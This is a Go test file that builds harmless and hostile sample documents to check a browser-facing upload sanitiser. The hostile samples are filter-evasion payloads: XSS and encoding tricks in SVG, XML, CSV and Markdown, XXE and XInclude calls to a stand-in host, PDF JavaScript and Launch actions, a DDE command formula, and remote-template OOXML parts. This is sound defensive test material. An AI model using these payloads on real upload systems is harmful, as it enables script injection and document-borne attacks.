// SPDX-License-Identifier: EUPL-1.2

package main

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"image"
	"image/color/palette"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"path"
	"strings"
	"testing"
	"unicode/utf16"
)

// A sample is a document to be opened in a browser. One that is hostile must be
// refused, or do nothing there; any other must pass.
type sample struct {
	name    string
	data    string
	hostile bool
}

// samples returns a document of each format that may be attached, and hostile
// ones of the kinds that a text archive cannot hold.
func samples(t *testing.T) []sample {
	const svg, alert = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">`, `<script>alert(1)</script>`
	all := honest(t)
	for name, data := range map[string]string{
		"gzip.svg":          zipped(t, svg+alert+"</svg>"),
		"utf16.svg":         wide(svg + alert + "</svg>"),
		"utf16.xml":         wide(`<a xmlns="http://www.w3.org/1999/xhtml">` + alert + "</a>"),
		"utf16.txt":         wide("<html>" + alert),
		"utf16.csv":         wide("a;b\n<html>" + alert),
		"zero.svg":          svg + "<sc\x00ript>alert(1)</script></svg>",
		"zero.txt":          "\x00<html>" + alert,
		"marca.svg":         "\xef\xbb\xbf\xef\xbb\xbf" + svg + alert + "</svg>",
		"non-utf8.svg":      svg + "<\xc0\xbcscript>alert(1)</script></svg>",
		"doppia.svg":        svg + "</svg>" + svg + alert + "</svg>",
		"dopo.svg":          svg + "</svg><!-- --><?xml-stylesheet href='x'?>",
		"nome.svg":          `<svg:svg xmlns:svg="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x" onerror="alert(1)"/></svg:svg>`,
		"rinominata.svg":    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:a="http://www.w3.org/2000/svg"><a:script>alert(1)</a:script></svg>`,
		"usata.svg":         svg + `<use href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg'&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;#a"/></svg>`,
		"maiuscola.svg":     svg + `<a XLINK:HREF="javascript:alert(1)" xmlns:XLINK="http://www.w3.org/1999/xlink"><text y="9">x</text></a></svg>`,
		"tab.svg":           svg + `<a href="java&#9;script:alert(1)"><text y="9">x</text></a></svg>`,
		"imposta.svg":       svg + `<a><set attributeName="href" to="javascript:alert(1)"/><text y="9">x</text></a></svg>`,
		"gestore.svg":       svg + `<handler xmlns="http://www.w3.org/2000/svg" type="text/javascript" event="load">alert(1)</handler></svg>`,
		"sfondo.svg":        svg + `<rect style="background:url(https://fuori.example/x)"/></svg>`,
		"sfondo-fuga.svg":   svg + `<rect style="fill:u\72l(https://fuori.example/x)"/></svg>`,
		"commento-css.svg":  svg + `<style>/*x*/@im/**/port "https://fuori.example/x";@import'https://fuori.example/y';</style></svg>`,
		"variabile.svg":     svg + `<style>rect{--a:url(https://fuori.example/x);fill:var(--a)}</style><rect/></svg>`,
		"cdata-css.svg":     svg + `<style><![CDATA[rect{fill:]]>url<![CDATA[(https://fuori.example/x)}]]></style><rect width="9" height="9"/></svg>`,
		"frammento.svg":     svg + `<rect fill="url(https://fuori.example/x#a)"/></svg>`,
		"titolo.svg":        svg + `<title><![CDATA[</title>` + alert + `]]></title></svg>`,
		"cdata.svg":         svg + `<desc><![CDATA[]]]]><![CDATA[>` + alert + `]]></desc></svg>`,
		"entita.xml":        `<!DOCTYPE a [<!ENTITY % x SYSTEM "https://fuori.example/x"> %x;]><a/>`,
		"inclusione.xml":    `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="https://fuori.example/x"/></a>`,
		"stile.xml":         `<?xml version="1.0"?><?xml-stylesheet href="data:text/css,a{background:url(https://fuori.example/x)}"?><a/>`,
		"trasformata.xml":   `<?xml-stylesheet type="text/xsl" href="#x"?><a id="x"/>`,
		"prefisso.xml":      `<a xmlns:q="http://www.w3.org/1999/xhtml"><b><q:iframe src="javascript:alert(1)"/></b></a>`,
		"predefinito.xml":   `<a><b xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></b></a>`,
		"modulo.xml":        `<a xmlns:f="http://www.w3.org/1999/xhtml"><f:form action="https://fuori.example"><f:input autofocus="" onfocus="alert(1)"/></f:form></a>`,
		"dati.json":         `<html>` + alert,
		"testo.json":        `{"a":"<script>alert(1)</script>"}`,
		"mappa.geojson":     `{"type":"FeatureCollection","features":[],"x":"<img src=x onerror=alert(1)>"}`,
		"collegati.jsonld":  `{"@context":"https://fuori.example/x"}`,
		"tabella.csv":       "nome;nota\na;\"<img src=https://fuori.example/x onerror=alert(1)>\"\n",
		"tabella.tsv":       "nome\tnota\na\t<svg onload=alert(1)>\n",
		"vecchia.csv":       "nome;nota\na;=HYPERLINK(\"https://fuori.example\")\n",
		"note.md":           "# a\n\n<details open ontoggle=alert(1)>x</details>\n",
		"immagine.md":       "![x](https://fuori.example/x.png)\n",
		"sette.txt":         "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
		"sette-altra.txt":   "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
		"giapponese.txt":    "\x1b$B\x1b(J<script>alert(1)</script>",
		"gif.gif":           "GIF89a/*\x01\x00*/=alert(1);<script>alert(1)</script>",
		"gif.txt":           "GIF89a=1;alert(1)//",
		"zip.docx":          "<html>" + alert + "PK\x03\x04",
		"pdf-dopo.pdf":      "<html>" + alert + pdfOf("<</Type/Catalog>>"),
		"pdf.svg":           svg + "<!--%PDF-1.7--></svg>",
		"azione.pdf":        pdfOf("<</Type/Catalog/Open#41ction<</S/#4aavaScript/#4a#53(app.alert\\(1\\))>>>>"),
		"azione-ottale.pdf": pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</S/JavaScr#69pt/JS(app.alert\\(1\\))>>"),
		"azione-sparsa.pdf": pdfOf("<</Type/Catalog/OpenAction 2 0 R>>", "<</S 3 0 R/JS 4 0 R>>", "/JavaScript", "(app.alert\\(1\\))"),
		"avvio.pdf":         pdfOf("<</Type/Catalog/AA<</O<</S/L#61unch/F(a.exe)>>>>>>"),
		"nomi.pdf":          pdfOf("<</Type/Catalog/Names<</JavaScript<</Names[(a) 2 0 R]>>>>>>", "<</S/JavaScript/JS 3 0 R>>", "(app.alert\\(1\\))"),
		"invio.pdf":         pdfOf("<</Type/Catalog>>", "<</Type/Annot/Subtype/Widget/A<</S/SubmitForm/F<</FS/URL/F(https://fuori.example)>>>>>>"),
		"altrove.pdf":       pdfOf("<</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\fuori.example\\\\a.pdf)>>>>"),
		"ricco.pdf":         pdfOf("<</Type/Catalog>>", "<</Type/Annot/Subtype/RichMedia>>"),
		"xfa.pdf":           pdfOf("<</Type/Catalog/AcroForm<</#58FA 2 0 R>>>>"),
		"nascosta.pdf":      pdfOf("<</Type/Catalog>>", "<</Length 60>>\nstream\n9 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\nendstream"),
		"filtri.pdf":        pdfOf("<</Type/Catalog>>", "<</Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]/Length 4>>\nstream\n4142\nendstream"),
		"modello.docx":      archived(t, "word/document.xml", "<a/>", "word/_rels/settings.xml.rels", `<r><Relationship TargetMode='External' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate' Target='https://fuori.example/a.dotm'/></r>`),
		"cornice.docx":      archived(t, "word/document.xml", "<a/>", "word/_rels/webSettings.xml.rels", `<r><Relationship TargetMode="External" Type="http://x/frame" Target="https://fuori.example"/></r>`),
		"oggetto.docx":      archived(t, "word/document.xml", "<a/>", "word/_rels/document.xml.rels", `<r><Relationship TargetMode="External" Type="http://x/oleObject" Target="mhtml:https://fuori.example!x"/></r>`),
		"macro.docx":        archived(t, "word/document.xml", "<a/>", "word/VBAPROJECT.BIN", "x"),
		"dde.xlsx":          archived(t, "xl/workbook.xml", "<a/>", "xl/worksheets/sheet1.xml", "<a><f>cmd|'/c calc'!A1</f></a>"),
		"foglio4.xlsx":      archived(t, "xl/workbook.xml", "<a/>", "xl/_rels/workbook.xml.rels", `<r><Relationship Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="m.xml"/></r>`),
		"script.odt":        archived(t, "mimetype", odt, "content.xml", `<a xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><o:script/></a>`),
		"evento.ods":        archived(t, "mimetype", strings.Replace(odt, "text", "spreadsheet", 1), "content.xml", `<a xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><s:event-listener s:event-name="dom:load"/></a>`),
		"sezione.odt":       archived(t, "mimetype", odt, "content.xml", `<a xmlns:xlink="http://www.w3.org/1999/xlink"><section-source xlink:href="https://fuori.example/a.odt"/></a>`),
	} {
		all = append(all, sample{name, data, true})
	}
	return all
}

const odt = "application/vnd.oasis.opendocument.text"

// honest is one document of each format, each also with a page after its end,
// where a format has one: a browser must not take it for that.
func honest(t *testing.T) (all []sample) {
	t.Helper()
	var shown [3]bytes.Buffer
	picture := image.NewPaletted(image.Rect(0, 0, 8, 8), palette.Plan9)
	for i, encode := range []func() error{
		func() error { return png.Encode(&shown[0], picture) },
		func() error { return jpeg.Encode(&shown[1], picture, nil) },
		func() error { return gif.Encode(&shown[2], picture, nil) },
	} {
		if err := encode(); err != nil {
			t.Fatal(i, err)
		}
	}
	page := "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</Font<</F 4 0 R>>>>>>"
	for name, data := range map[string]string{
		"documento.pdf": pdfOf("<</Type/Catalog/Pages 2 0 R/MarkInfo<</Marked true>>/StructTreeRoot 5 0 R/Lang(it)>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", page,
			"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", "<</Type/StructTreeRoot>>"),
		"documento.docx":    archived(t, "[Content_Types].xml", "<Types/>", "word/document.xml", "<a><p>testo</p></a>"),
		"foglio.xlsx":       archived(t, "xl/workbook.xml", "<a/>", "xl/worksheets/sheet1.xml", `<a><c r="A1"><v>1</v></c></a>`),
		"diapositive.pptx":  archived(t, "ppt/presentation.xml", "<a/>", "ppt/slides/slide1.xml", "<a><p>testo</p></a>"),
		"documento.odt":     archived(t, "mimetype", odt, "content.xml", "<a><p>testo</p></a>"),
		"foglio.ods":        archived(t, "mimetype", strings.Replace(odt, "text", "spreadsheet", 1), "content.xml", "<a/>"),
		"presentazione.odp": archived(t, "mimetype", strings.Replace(odt, "text", "presentation", 1), "content.xml", "<a/>"),
		"foto.png":          shown[0].String(),
		"foto.jpg":          shown[1].String(),
		"foto.gif":          shown[2].String(),
		"foto.webp":         "RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00",
		"disegno.svg":       `<svg xmlns="http://www.w3.org/2000/svg"><title>x</title><rect width="9" height="9" fill="url(#a)"/></svg>`,
		"dati.xml":          `<?xml version="1.0"?><dati xmlns="https://www.comune.example/x"><a href="https://www.comune.example/">1</a></dati>`,
		"grafo.rdf":         `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>`,
		"dati.csv":          "nome;valore\na;1\n",
		"dati.tsv":          "nome\tvalore\na\t1\n",
		"dati.json":         `{"a":[1,"<b>due</b>"]}`,
		"luoghi.geojson":    `{"type":"FeatureCollection","features":[]}`,
		"testo.txt":         "a < b, e poi <tag> qualunque\n",
		"note.md":           "# Titolo\n\n[collegamento](https://www.comune.example/)\n",
		"grafo.ttl":         "<https://www.comune.example/a> a <https://www.comune.example/b> .\n",
	} {
		all = append(all, sample{name, data, false})
		if end := path.Ext(name); strings.Contains(".pdf.docx.xlsx.odt.png.jpg.gif.webp", end) {
			all = append(all, sample{"pagina-" + name, data + "<html><script>alert(1)</script>", true},
				sample{"prima-" + name, "<html><script>alert(1)</script>" + data, true},
				sample{"tag-" + name, data + "<img src=https://fuori.example/x onerror=alert(1)>", true})
		}
	}
	return all
}

// pdfOf is a PDF of objects.
func pdfOf(objects ...string) string {
	var b strings.Builder
	b.WriteString("%PDF-1.7\n")
	for i, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n0\n%%%%EOF\n", len(objects)+1)
	return b.String()
}

// archived is an archive of names and texts, in pairs.
func archived(t *testing.T, pairs ...string) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(pairs); i += 2 {
		part, err := w.CreateHeader(&zip.FileHeader{Name: pairs[i]})
		if err == nil {
			_, err = io.WriteString(part, pairs[i+1])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func zipped(t *testing.T, text string) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := io.WriteString(w, text); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// wide is text in UTF-16, with its mark.
func wide(text string) string {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}
